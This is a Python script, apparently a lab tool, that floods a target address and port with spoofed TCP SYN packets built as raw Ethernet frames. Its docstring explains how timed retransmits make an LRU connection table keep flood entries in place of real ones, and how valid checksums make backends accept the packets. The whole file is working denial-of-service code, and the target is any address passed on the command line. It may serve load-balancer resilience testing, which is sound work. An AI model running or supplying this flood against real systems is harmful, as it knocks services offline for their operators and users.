"""A spoofed SYN flood, as raw frames from inside a lab namespace.

    synflood.py IFNAME SRC_MAC DST_MAC VIP PORT SOURCES GAP MAX_S

Sends one SYN from each of SOURCES spoofed addresses (198.19.0.0/16 upward:
RFC 2544 benchmarking space, inside the lab only) to VIP:PORT, and each one
again GAP frames later (the retransmit real stacks and flood tools send,
same 4-tuple: a retransmit soon after its SYN is what marks a table entry
as used, and makes an LRU keep flood entries over idle real ones), as fast
as the socket takes them, and stops after MAX_S seconds whatever is left.
Prints one JSON line: frames sent, seconds.
Frames are built with struct (scapy builds a few thousand a second; this
needs 100,000 in a few seconds), with correct IP and TCP checksums (scapy's
checksum function) so the backends treat them as real SYNs.
"""
import ipaddress
import json
import socket
import struct
import sys
import time

from scapy.utils import checksum  # RFC 1071 (scapy builds frames too slowly, not sums)


def syn_frame(src_mac: bytes, dst_mac: bytes, src: bytes, dst: bytes, sport: int, dport: int,
              seq: int) -> bytes:
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return dst_mac + src_mac + b"\x08\x00" + ip + tcp


def main() -> int:
    ifname, src_mac, dst_mac, vip, port, sources, gap, max_s = sys.argv[1:9]
    src_mac_b = bytes.fromhex(src_mac.replace(":", ""))
    dst_mac_b = bytes.fromhex(dst_mac.replace(":", ""))
    dst = ipaddress.IPv4Address(vip).packed
    base = int(ipaddress.IPv4Address("198.19.0.1"))
    frames = [syn_frame(src_mac_b, dst_mac_b, ipaddress.IPv4Address(base + i).packed, dst,
                        1024 + i % 60000, int(port), i * 7919)
              for i in range(int(sources))]
    gap = int(gap)
    # each SYN, and the retransmit of the one `gap` frames back
    order = [f for i in range(len(frames) + gap)
             for f in ((frames[i],) if i < len(frames) else ()) + ((frames[i - gap],) if i >= gap else ())]
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((ifname, 0))
    sent, started = 0, time.monotonic()
    deadline = started + float(max_s)
    for frame in order:
        try:
            sock.send(frame)
        except BlockingIOError:  # the queue is full: a real flood loses these too
            continue
        sent += 1
        if sent % 1000 == 0 and time.monotonic() > deadline:
            break
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - started, 2)}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
